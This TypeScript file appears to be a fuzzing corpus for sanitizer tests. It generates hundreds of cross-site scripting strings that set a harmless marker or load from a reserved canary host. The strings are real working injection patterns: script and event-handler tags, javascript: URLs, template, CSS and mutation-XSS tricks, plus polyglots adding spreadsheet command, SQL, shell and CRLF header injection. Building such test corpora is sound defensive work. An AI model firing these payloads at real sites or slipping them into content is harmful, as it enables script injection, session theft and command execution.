/**
 * Words that would run somewhere if anything took them for more than words: five hundred and more, made of families and of the
 * places that they try to break out of. What runs marks the page (`__pwned`) or asks a host that nobody else asks.
 */

/** Asked by nothing but words that ran. */
export const CANARY_HOST = 'canary.invalid';

const RUN = 'top.__pwned=1';
const FAR = `//${CANARY_HOST}`;

/** All of them, each once. */
export function xssStrings(): string[] {
  const all = [
    ...scripts(),
    ...handlers(),
    ...breakouts(),
    ...addresses(),
    ...templates(),
    ...letters(),
    ...sheets(),
    ...mutations(),
    ...objects(),
    ...polyglots(),
  ];
  return [...new Set(all)];
}

function scripts(): string[] {
  const names = ['script', 'ScRiPt', 'script ', 'script/x', 'script\t', 'script\n', 'svg:script', 'x:script'];
  const heads = names.map((name) => `<${name}>${RUN}</${name.trim()}>`);
  const kinds = ['module', 'text/javascript', 'importmap', 'speculationrules', 'text/vbscript', ''];
  return [
    ...heads,
    ...kinds.map((kind) => `<script type="${kind}">${RUN}</script>`),
    ...['', ' async', ' defer', ' crossorigin', ' nonce=x'].map(
      (more) => `<script src=${FAR}/x.js${more}></script>`,
    ),
    `<script>${RUN}//`,
    `<script>/*\n*/${RUN}`,
    `<<script>${RUN}//<</script>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<script\u0000>${RUN}</script>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><script href="${FAR}/x.js"/></svg>`,
    `<svg><script>&#116;op.__pwned=1</script>`,
    `<math><script>${RUN}</script></math>`,
    `<script>import('${FAR}/m.js')</script>`,
    `<noscript><script>${RUN}</script></noscript>`,
    `<template><script>${RUN}</script></template>`,
    `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
    `<object data="data:text/html,<script>${RUN}</script>"></object>`,
    `<embed src="data:image/svg+xml,<svg onload=${RUN} xmlns='http://www.w3.org/2000/svg'/>">`,
    `<base href="${FAR}/"><script src=x.js></script>`,
    `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
    `<link rel=stylesheet href="${FAR}/x.css">`,
    `<link rel=prefetch href="${FAR}/x">`,
    `<link rel=import href="${FAR}/x.html">`,
  ];
}

/** Elements that call something by themselves, or at the first touch; by every way to write an attribute. */
function handlers(): string[] {
  const elements: [tag: string, handler: string, rest: string][] = [
    ['img', 'onerror', 'src=x'],
    ['img', 'onload', 'src=data:image/gif;base64,R0lGODlhAQABAAAAACw='],
    ['image', 'onerror', 'src=x'],
    ['svg', 'onload', ''],
    ['svg', 'onbegin', ''],
    ['body', 'onload', ''],
    ['body', 'onpageshow', ''],
    ['html', 'onclick', ''],
    ['video', 'onerror', 'src=x'],
    ['video', 'onloadstart', 'src=x'],
    ['audio', 'onerror', 'src=x'],
    ['source', 'onerror', 'src=x'],
    ['iframe', 'onload', 'src=about:blank'],
    ['object', 'onerror', 'data=x'],
    ['embed', 'onload', 'src=x'],
    ['input', 'onfocus', 'autofocus'],
    ['select', 'onfocus', 'autofocus'],
    ['textarea', 'onfocus', 'autofocus'],
    ['button', 'onfocus', 'autofocus'],
    ['a', 'onfocus', 'autofocus href=#'],
    ['div', 'onfocus', 'autofocus tabindex=0'],
    ['div', 'onmouseover', ''],
    ['b', 'onpointerenter', ''],
    ['p', 'oncontentvisibilityautostatechange', ''],
    ['details', 'ontoggle', 'open'],
    ['dialog', 'oncancel', 'open'],
    ['marquee', 'onstart', ''],
    ['style', 'onload', ''],
    ['link', 'onload', 'rel=stylesheet href=data:,'],
    ['animate', 'onbegin', 'attributeName=x dur=1s'],
    ['set', 'onbegin', 'attributeName=x dur=1s'],
    ['form', 'onformdata', ''],
    ['x', 'onanimationstart', 'class=enter'],
    ['x', 'onclick', 'contenteditable'],
  ];
  const writings: ((tag: string, handler: string, rest: string) => string)[] = [
    (tag, handler, rest) => `<${tag} ${rest} ${handler}=${RUN}>`,
    (tag, handler, rest) => `<${tag}/${handler}="${RUN}"/${rest}>`,
    (tag, handler, rest) => `<${tag.toUpperCase()}\n${rest}\n${handler.toUpperCase()}='${RUN}'//`,
    (tag, handler, rest) => `"><${tag}\t${rest}\t${handler}\t=\t"${RUN}">`,
    (tag, handler, rest) => `<${tag} ${rest} ${handler}=&#116;op.__pwned&#61;1>`,
  ];
  return elements.flatMap(([tag, handler, rest]) => writings.map((write) => write(tag, handler, rest)));
}

/** The ends of whatever words may stand in, and what would come after them. */
function breakouts(): string[] {
  const ends = [
    ...[
      '"',
      "'",
      '">',
      "'>",
      '`',
      '/>',
      '*/',
      '-->',
      '--!>',
      ']]>',
      '?>',
      '%>',
      '}}',
      '\\"',
      "\\'",
      '\\u0022>',
    ],
    ...['</script>', '</SCRIPT >', '</style>', '</title>', '</textarea>', '</noscript>', '</template>'],
    ...[
      '</option></select>',
      '</svg>',
      '</math>',
      '</iframe>',
      '</xmp>',
      '</a>',
      '\r\n\r\n',
      '"}]}</script>',
    ],
  ];
  const afters = [
    `<script>${RUN}</script>`,
    `<img src=x onerror=${RUN}>`,
    `<svg onload=${RUN}>`,
    ` onmouseover=${RUN} x=`,
    `;${RUN};//`,
  ];
  return ends.flatMap((end) => afters.map((after) => end + after));
}

function addresses(): string[] {
  const schemes = [
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    'java\nscript:',
    'javascript&colon;',
    '&#106;avascript:',
    '\u0001javascript:',
    ' javascript:',
    'javascript://x%0a',
    'view-source:javascript:',
    'feed:javascript:',
    'vbscript:',
    'livescript:',
    'data:text/html,<script>',
    'data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZD0xPC9zY3JpcHQ+#',
    'blob:null/',
    'filesystem:x/',
    'http:javascript:',
    'https://javascript:',
  ];
  const places: ((address: string) => string)[] = [
    (address) => address,
    (address) => `[press](${address})`,
    (address) => `<a href="${address}">press</a>`,
    (address) => `![](${address})`,
  ];
  const links = [
    `https://${CANARY_HOST}/"onmouseover="${RUN}`,
    `https://${CANARY_HOST}/'onmouseover='${RUN}`,
    `https://${CANARY_HOST}/<img/src=x/onerror=${RUN}>`,
    `https://${CANARY_HOST}/\`onmouseover=${RUN}`,
    `https://${CANARY_HOST}/a#javascript:${RUN}`,
    `https://a:b@${CANARY_HOST}/?<script>${RUN}</script>`,
    `http://${CANARY_HOST}\\@shop.example/`,
    `www.${CANARY_HOST}"><svg/onload=${RUN}>`,
    `mailto:x@${CANARY_HOST}?body=<svg onload=${RUN}>`,
    `tel:+1"><svg onload=${RUN}>`,
    `<x@${CANARY_HOST}>"onfocus=${RUN} autofocus x="`,
    `"<svg/onload=${RUN}>"@${CANARY_HOST}`,
  ];
  return [...schemes.flatMap((scheme) => places.map((place) => place(scheme + RUN))), ...links];
}

/** Places of template languages, of our own texts, and of `String.replace`. */
function templates(): string[] {
  const wraps: [string, string][] = [
    ['{{', '}}'],
    ['{{{', '}}}'],
    ['$' + '{', '}'],
    ['#{', '}'],
    ['<%=', '%>'],
    ['{%', '%}'],
    ['[[', ']]'],
    ['<#', '#>'],
    ['@{', '}'],
    ['<?=', '?>'],
  ];
  const inside = [RUN, `constructor.constructor('${RUN}')()`, `''.constructor.constructor('${RUN}')()`];
  return [
    ...wraps.flatMap(([open, close]) => inside.map((code) => open + code + close)),
    `<div v-html="'<svg onload=${RUN}>'">`,
    `<p ng-app ng-init="constructor.constructor('${RUN}')()">`,
    `<x x-data x-init="${RUN}">`,
    `<img dangerouslySetInnerHTML={{__html:"<svg onload=${RUN}>"}}>`,
    `{0}<svg onload=${RUN}>{1}`,
    `{one:<svg onload=${RUN}>|other:${RUN}}`,
    `$&<svg onload=${RUN}>`,
    `$'<svg onload=${RUN}>$\``,
    '__FULLNAME_SETTINGS__',
    `__FULLNAME_SETTINGS__"),${RUN},("`,
  ];
}

/** Letters that look like others, turn the line, or vanish on the way. */
function letters(): string[] {
  const tag = `<img src=x onerror=${RUN}>`;
  const insides = [
    '\u0000',
    '\u00ad',
    '\u200b',
    '\u200d',
    '\u2060',
    '\ufeff',
    '\u202e',
    '\u2066',
    '\u0301',
    '\ud800',
    '\udc00',
  ];
  return [
    `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
    `\u2039script\u203a${RUN}\u2039/script\u203a`,
    `\u202e>${[...RUN].reverse().join('')}=rorreno x=crs gmi<`,
    `\u2067${tag}\u2069`,
    `\u061c${tag}`,
    `\u2028${RUN}\u2029//`,
    `';\u2028${RUN}//`,
    `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
    `\u00bcscript\u00be${RUN}\u00bc/script\u00be`,
    `%3Cscript%3E${RUN}%3C/script%3E`,
    `%253Csvg%2520onload%253D${RUN}%253E`,
    `&lt;img src=x onerror=${RUN}&gt;`,
    `&#60;img src=x onerror=${RUN}&#62;`,
    `&#x3c;img src=x onerror=${RUN}&#x3e;`,
    `&amp;lt;svg onload=${RUN}&amp;gt;`,
    `\\u003cimg src=x onerror=${RUN}\\u003e`,
    `\\x3cimg src=x onerror=${RUN}\\x3e`,
    `\\74svg onload=${RUN}\\76`,
    `\u001b[31m${tag}\u001b[0m`,
    `\u0008\u0008${tag}`,
    ...insides.map((one) => `<im${one}g src=x onerror=${RUN}>`),
    ...insides.map((one) => `<${one}img src=x onerror=${RUN}>`),
  ];
}

function sheets(): string[] {
  return [
    `<style>@import '${FAR}/x.css';</style>`,
    `<style>*{background:url(${FAR}/x)}</style>`,
    `<p style="background:url(javascript:${RUN})">`,
    `<p style="width:expression(${RUN})">`,
    `<p style="behavior:url(${FAR}/x.htc)">`,
    `<p style="-moz-binding:url(${FAR}/x.xml#x)">`,
    `;}*{background:url(${FAR}/x)}`,
    `}body{display:none}`,
    `#fff;background:url(${FAR}/x)`,
    `red;}</style><svg onload=${RUN}>`,
    `<div style="position:fixed;inset:0;z-index:9999" onclick=${RUN}>`,
    `<xss style="animation:enter 1s" onanimationstart=${RUN}>`,
    `<style>@keyframes x{}</style><b style="animation-name:x" onanimationend=${RUN}>`,
    `<svg><style>*{fill:url(${FAR}/x#y)}</style></svg>`,
    `<style></style\n><img src=x onerror=${RUN}>`,
  ];
}

/** What a parser reads otherwise the second time. */
function mutations(): string[] {
  const img = `<img src=x onerror=${RUN}>`;
  return [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
    `<noscript><p title="</noscript>${img}">`,
    `<svg></p><style><a id="</style>${img}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${img}`,
    `<svg><foreignObject><p><style></p></svg>${img}`,
    `<math><annotation-xml encoding="text/html"><style></math>${img}`,
    `<table><td><a href="</table>${img}">`,
    `<select><template><style><!--</template><a rel="--></style></select>${img}">`,
    `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
    `<xmp><p title="</xmp>${img}">`,
    `<plaintext>${img}`,
    `<title><a title="</title>${img}">`,
    `<!--<img title="-->${img}">`,
    `<![CDATA[<svg onload=${RUN}>]]>`,
    `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
    `<svg><![CDATA[</svg>${img}]]>`,
    `<a><b><a><b>${img}</a></b></a>`,
    `<div id=x></div><div id="cookie"><form name=body><input name=attributes>`,
    `<a id=__pwned href="x:1">`,
    `<form id=document><input name=cookie>`,
    `<template shadowrootmode=open>${img}</template>`,
    `<slot name="x" onslotchange=${RUN}>`,
    `<use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${RUN}'/></svg>#x">`,
    `<svg><a xlink:href="javascript:${RUN}"><text y=20>press</text></a></svg>`,
    `<svg><animate xlink:href=#x attributeName=href values=javascript:${RUN} /><a id=x>`,
    `<math href="javascript:${RUN}">press</math>`,
    `<form action="javascript:${RUN}"><button>press</button></form>`,
    `<button formaction="javascript:${RUN}">press</button>`,
    `<input type=image src=x formaction="javascript:${RUN}">`,
    `<isindex action="javascript:${RUN}" type=image>`,
    `<area href="javascript:${RUN}">`,
    `<portal src="javascript:${RUN}">`,
    `<frameset onload=${RUN}>`,
    `<bgsound src="javascript:${RUN}">`,
    `<applet code="${FAR}/x.class">`,
  ];
}

function objects(): string[] {
  return [
    '__proto__',
    'constructor',
    'toString',
    `{"__proto__":{"__pwned":1}}`,
    `{"constructor":{"prototype":{"__pwned":1}}}`,
    `","__pwned":1,"x":"`,
    `"]},${RUN},{"x":["`,
    `\\");${RUN};//`,
    `\\u2028${RUN}`,
    `<!--<script>${RUN}`,
    `<!--<script><!--${RUN}--></script>`,
    `</script><!--`,
    `</scr\\ipt>`,
    `[object Object]<svg onload=${RUN}>`,
    `javascript:{"x":1}`,
    `data:application/json,{"x":"</script><svg onload=${RUN}>"}`,
  ];
}

function polyglots(): string[] {
  return [
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>\\x3e`,
    `">><marquee><img src=x onerror=${RUN}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${RUN}>`,
    `'"--></style></script><svg onload=${RUN}>`,
    `-->'"/></sCript><deTailS open x=">" ontoggle=(${RUN})>`,
    `';alert(1)//";${RUN}//--></script>">'><img src=x onerror=${RUN}>`,
    `\`"'><img src=x:x onerror=${RUN}>`,
    `*/"'/*\`/*--></noscript></title></textarea></style></template></noembed></script><html \\" onmouseover=${RUN}//>`,
    `%22%3E%3Csvg%20onload%3D${RUN}%3E"><svg onload=${RUN}>`,
    `{{'"><svg onload=${RUN}>'}}\${${RUN}}<%${RUN}%>`,
    `=cmd|' /C calc'!A0<svg onload=${RUN}>`,
    `@SUM(1+1)*cmd|' /C calc'!A0`,
    `' or 1=1 -- <svg onload=${RUN}>`,
    `; ls <svg onload=${RUN}> \${IFS}`,
    `\r\nSet-Cookie: x=1\r\n\r\n<svg onload=${RUN}>`,
    `\r\nBcc: x@${CANARY_HOST}\r\nContent-Type: text/html\r\n\r\n<svg onload=${RUN}>`,
  ];
}
